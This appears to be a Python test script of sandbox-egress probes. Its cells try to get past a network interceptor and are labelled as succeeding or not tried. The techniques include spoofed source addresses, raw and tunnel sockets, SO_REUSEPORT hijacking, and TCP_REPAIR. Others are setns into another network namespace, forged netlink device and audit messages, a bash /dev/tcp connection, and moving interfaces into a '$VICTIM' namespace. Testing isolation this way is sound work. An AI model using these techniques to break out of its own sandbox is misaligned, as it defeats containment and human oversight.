# Attempts to reach another host by further calls, options and kinds of sockets.

# %% several datagrams in one call (sendmmsg) [succeeds]
client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
client.settimeout(1)
client.connect((SERVER, 7000))
data = ctypes.create_string_buffer(b"x" * 20)
vector = struct.pack("2Q", ctypes.addressof(data), 20)
vector = ctypes.create_string_buffer(vector)
message = struct.pack("QI4xQQQQi4xI4x", 0, 0, ctypes.addressof(vector), 1, 0, 0, 0, 0)
call(libc.sendmmsg(client.fileno(), ctypes.create_string_buffer(message * 2), 2, 0))
print("OUT", client.recv(100))

# %% a pipe that is spliced into a socket [succeeds]
client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
client.connect((SERVER, 7000))
reader, writer = os.pipe()
os.write(writer, b"x" * 20)
os.splice(reader, client.fileno(), 20)
print("OUT", client.recv(100))

# %% a datagram that the kernel cuts into segments (UDP_SEGMENT) [succeeds]
client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
client.setsockopt(17, 103, 20)
client.connect((SERVER, 7000))
client.send(b"x" * 60)
print("OUT", client.recv(100))

# %% a datagram with a source and an interface of its own (IP_PKTINFO) [succeeds]
client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
client.settimeout(1)
errors = []
for index, name in socket.if_nameindex():
    source = struct.pack("i4s4s", index, socket.inet_aton("10.81.0.2"), bytes(4))
    try:
        client.sendmsg([b"x" * 20], [(socket.IPPROTO_IP, 8, source)], 0, (SERVER, 7000))
        print("OUT", client.recv(100))
    except OSError as error:
        errors.append((name, error))
print("closed", errors)

# %% a connection that its first data opens (TCP_FASTOPEN_CONNECT) [succeeds]
client = socket.socket()
client.setsockopt(socket.IPPROTO_TCP, 30, 1)
client.connect((SERVER, 7000))
client.sendall(b"x")
received = client.recv(100)
print("OUT" if received else "closed", received)

# %% a socket that is connected a second time (AF_UNSPEC) [succeeds]
server = socket.create_server(("127.0.0.1", 0))
client = socket.create_connection(server.getsockname())
call(libc.connect(client.fileno(), bytes(16), 16))
client.connect((SERVER, 7000))
client.sendall(b"x")
print("OUT", client.recv(100))

# %% an address of the host as the source [succeeds]
client = socket.socket()
client.bind(("10.81.0.2", 0))
client.connect((SERVER, 7000))
print("OUT")

# %% a server on an address of the host [succeeds]
server = socket.create_server(("10.81.0.2", 7002))
server.settimeout(1.5)
connection, peer = server.accept()
print("OUT", peer)

# %% a port of the interceptor's (SO_REUSEPORT) [not-tried]
for kind, port in ((socket.SOCK_STREAM, 443), (socket.SOCK_STREAM, 53), (socket.SOCK_DGRAM, 53)):
    server = socket.socket(socket.AF_INET, kind)
    server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    try:
        server.bind((SERVER, port))
        print("OUT", port)
    except OSError as error:
        assert error.errno == errno.EADDRINUSE, error
print("closed")

# %% the host's loopback by the unspecified address [succeeds]
tcp("0.0.0.0", 7001)

# %% the host's loopback by an IPv4 address inside IPv6 [succeeds]
tcp("::ffff:127.0.0.1", 7001, socket.AF_INET6)

# %% another host by an IPv4 address inside IPv6 [succeeds]
tcp("::ffff:" + SERVER, 7000, socket.AF_INET6)

# %% link-local addresses at each interface [not-tried]
errors = []
for index, name in socket.if_nameindex():
    client = socket.socket(socket.AF_INET6)
    try:
        client.connect(("fe80::1", 7000, 0, index))
        print("OUT", name)
    except OSError as error:
        errors.append((name, error))
print("closed", errors)

# %% addresses of translators (NAT64, 6to4, Teredo) [not-tried]
errors = []
for address in ("64:ff9b::a51:1", "64:ff9b:1::a51:1", "2002:a51:1::1", "2001:0:a51:1::", "::10.81.0.1"):
    for port in (7000, 443):
        try:
            client = socket.create_connection((address, port), 1)
            client.sendall(b"GET /echo HTTP/1.0\r\n\r\n")
            received = client.recv(1000)
            print("OUT" if b"GET " in received or received == b"hello" else "closed", received)
        except OSError as error:
            errors.append((address, error))
print("closed", errors)

# %% UDP to every host of a link over IPv6 [succeeds]
errors = []
for index, name in socket.if_nameindex():
    client = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    client.settimeout(0.5)
    client.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_IF, index)
    try:
        client.sendto(b"x", ("ff02::1", 7008, 0, index))
        print("OUT", client.recv(100))
    except OSError as error:
        errors.append((name, error))
print("closed", errors)

# %% a multicast group that the host receives [succeeds]
client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
client.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
client.bind(("", 7009))
joined = []
for index, name in socket.if_nameindex():
    try:
        group = struct.pack("4s4si", socket.inet_aton("224.0.0.251"), bytes(4), index)
        client.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, group)
        joined.append(name)
    except OSError as error:
        joined.append((name, error))
client.settimeout(1)
print("OUT", client.recv(100), joined)

# %% UDP-Lite [not-tried]
client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136)
client.settimeout(1)
client.connect((SERVER, 7000))
client.send(b"x" * 20)
print("OUT", client.recv(100))

# %% DCCP [not-tried]
client = socket.socket(socket.AF_INET, 6, 33)
client.setsockopt(269, 2, struct.pack("!I", 7))
client.connect((SERVER, 7000))
print("OUT")

# %% raw sockets of IPv6 [succeeds]
client = socket.socket(socket.AF_INET6, socket.SOCK_RAW, 255)
client.sendto(b"\x60" + bytes(5) + b"\x3b\x40" + bytes(32), (SERVER6, 0))
print("OUT")

# %% raw sockets of tunnels and of routing protocols [succeeds]
opened = []
for protocol in (2, 4, 41, 47, 50, 89, 103):
    try:
        socket.socket(socket.AF_INET, socket.SOCK_RAW, protocol)
        opened.append(protocol)
    except PermissionError:
        pass
print("OUT" if opened else "closed", opened)

# %% ICMPv6 echo [succeeds]
try:
    ping = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
except PermissionError:
    ping = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM, socket.IPPROTO_ICMPV6)
ping.settimeout(1)
ping.sendto(b"\x80\0\0\0\0\1\0\1", (SERVER6, 0))
print("OUT", ping.recv(100))

# %% source routing over IPv6 [not-tried]
client = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
client.settimeout(1)
errors = []
for kind in (0, 2, 4):
    header = struct.pack("4B4x16s", 0, 2, kind, 1, socket.inet_pton(socket.AF_INET6, SERVER6))
    try:
        client.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_RTHDR, header)
        client.sendto(b"x", ("fd81::2", 7000))
        print("OUT", client.recv(100))
    except OSError as error:
        errors.append((kind, error))
print("closed", errors)

# %% the state of a connection, made up (TCP_REPAIR) [succeeds]
client = socket.socket()
client.setsockopt(socket.IPPROTO_TCP, 19, 1)
client.connect((SERVER, 7000))
print("OUT")

# %% upper-layer protocols of TCP (TCP_ULP) [not-tried]
client = socket.socket()
for name in (b"smc", b"espintcp", b"mptcp"):
    try:
        client.setsockopt(socket.IPPROTO_TCP, 31, name)
        print("OUT", name)
    except OSError as error:
        print("closed", name, error)

# %% a bus of a car (AF_CAN) [not-tried]
for protocol in (1, 2, 6, 7):
    try:
        client = socket.socket(socket.AF_CAN, socket.SOCK_RAW if protocol == 1 else socket.SOCK_DGRAM, protocol)
        client.bind((next(name for _, name in socket.if_nameindex() if name != "lo"),))
        print("OUT", protocol)
    except (OSError, StopIteration) as error:
        print("closed", error)

# %% the network of a socket (SIOCGSKNS) [succeeds]
network = fcntl.ioctl(socket.socket(), 0x894c, 0)
call(libc.setns(network, CLONE_NEWNET))
print("OUT")

# %% routes and addresses by ioctl(2) [not-tried]
client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
address = struct.pack("HH4s8x", socket.AF_INET, 0, socket.inet_aton("10.81.0.9"))
for command, argument in (
    (0x8916, struct.pack("16s16s8x", b"lo", address)),
    (0x8914, struct.pack("16sH22x", b"lo", 0)),
    (0x890b, struct.pack("8x16s16s16sH", address, bytes(16), bytes(16), 5) + bytes(70)),
    (0x89a0, b"out".ljust(16, b"\0")),
):
    try:
        fcntl.ioctl(client, command, argument)
        print("OUT", hex(command))
    except OSError as error:
        print("closed", error)

# %% the kernel's sockets of the host's network (process events, iSCSI, SCSI) [not-tried]
for protocol in (11, 8, 18):
    try:
        client = socket.socket(socket.AF_NETLINK, socket.SOCK_DGRAM, protocol)
        client.settimeout(0.5)
        client.bind((0, 1))
        listen = struct.pack("IIIIHHI", 1, 1, 0, 0, 4, 0, 1)
        client.sendto(struct.pack("IHHII", 16 + len(listen), 3, 0, 0, 0) + listen, (0, 0))
        subprocess.run(["true"])
        print("OUT", protocol, client.recv(1000))
    except OSError as error:
        print("closed", protocol, error)

# %% an event of a device, made up (NETLINK_KOBJECT_UEVENT) [succeeds]
client = socket.socket(socket.AF_NETLINK, socket.SOCK_DGRAM, 15)
client.sendto(b"add@/peername\0ACTION=add\0DEVPATH=/peername\0SUBSYSTEM=peername\0SEQNUM=1\0", (0, 1))
print("OUT")

# %% the audit of the kernel by netlink [not-tried]
client = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 9)
client.settimeout(1)
for kind, body in ((1000, b""), (1001, bytes(40)), (1107, b"forged")):
    client.sendto(struct.pack("IHHII", 16 + len(body), kind, 5, 1, 0) + body, (0, 0))
    length, received, _, _, _, code = struct.unpack("IHHIIi", client.recv(1000)[:20])
    print("OUT" if received != 2 or code == 0 else "closed", kind, code)

# %% connections that are closed by netlink (SOCK_DESTROY) [not-tried]
server = socket.create_server(("127.0.0.1", 0))
client = socket.create_connection(server.getsockname())
diag = socket.socket(socket.AF_NETLINK, socket.SOCK_DGRAM, 4)
one = lambda name: socket.inet_aton(name[0]) + bytes(12)
(source, destination) = client.getsockname(), client.getpeername()
about = struct.pack("!HH", source[1], destination[1]) + one(source) + one(destination) + struct.pack("I2I", 0, 0xffffffff, 0xffffffff)
body = struct.pack("4BI", socket.AF_INET, socket.IPPROTO_TCP, 0, 0, 0xffffffff) + about
diag.send(struct.pack("IHHII", 16 + len(body), 21, 5, 1, 0) + body)
code = struct.unpack("i", diag.recv(1000)[16:20])[0]
print("OUT" if code == 0 else "closed", code)

# %% routes in a network of one's own [not-tried]
script = """
ip link set lo up; ip address add 10.81.0.9/24 dev lo; ip route add default dev lo; ip route add local 0.0.0.0/0 dev lo table 7
for kind in 'ipip remote 10.81.0.1' 'gre remote 10.81.0.1' 'vxlan id 7 remote 10.81.0.1 dstport 7000'; do
    ip link add out type $kind local 10.81.0.9 && ip link set out up && ip route replace 10.81.0.1 dev out; ip link del out
done
exec 3<>/dev/tcp/10.81.0.1/7000 && echo OUT; echo x >/dev/udp/10.81.0.1/7000
"""
done = subprocess.run(["unshare", "--user", "--map-root-user", "--net", "timeout", "2", "bash", "-c", script], capture_output=True, text=True)
print("OUT" if "OUT" in done.stdout else "closed", done.stderr)

# %% an interface between a network of one's own and one outside [not-tried]
script = """
ip link add out type veth peer name peer netns $VICTIM && echo OUT
ip link add out type veth peer name peer && ip link set peer netns $VICTIM && echo OUT
ip link set lo netns $VICTIM && echo OUT
ip link add link lo name out netns $VICTIM type macvlan && echo OUT
ip link add out type dummy; ip link set out netns 1 && echo OUT; true
"""
done = subprocess.run(["unshare", "--user", "--map-root-user", "--net", "sh", "-c", script], capture_output=True, text=True)
print("OUT" if "OUT" in done.stdout else "closed", done.stderr)
